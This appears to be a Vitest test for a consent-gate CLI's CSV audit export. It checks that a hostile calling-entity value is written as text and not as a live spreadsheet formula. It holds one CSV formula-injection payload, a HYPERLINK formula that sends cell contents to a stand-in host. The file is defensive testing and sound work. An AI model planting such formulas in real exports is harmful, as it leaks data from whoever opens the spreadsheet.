/**
 * `audit export --format csv` must not hand a spreadsheet a live formula:
 * whatever a caller put in a field it controls (the calling entity here)
 * comes out as text.
 */
import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ADMIN_KEY } from '../support/gateway';
import { cli } from './runCli';

describe('consent-gate audit export --format csv', () => {
  it('writes a calling entity of =HYPERLINK(…) as text, not as a formula', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'cg-csv-'));
    const run = (...args: string[]) => cli(['--data-dir', dataDir, ...args], { CONSENT_GATE_API_KEY: ADMIN_KEY });
    const hostile = '=HYPERLINK("http://x.example/?leak="&A1,"open")';
    const checked = await run(
      'check',
      '+12125550101',
      '--entity',
      hostile,
      '--purpose',
      'telemarketing',
      '--call-type',
      'human_voice',
      '--at',
      '2026-04-10T18:00:00Z',
    );
    expect(checked.code).toBe(1);

    const file = join(dataDir, 'decisions.csv');
    expect((await run('audit', 'export', '--format', 'csv', '--out', file)).code).toBe(0);
    const rows = parse(readFileSync(file, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0].entity).toBe(`'${hostile}`);
    expect(rows[0].phone).toBe("'+12125550101");
  });
});
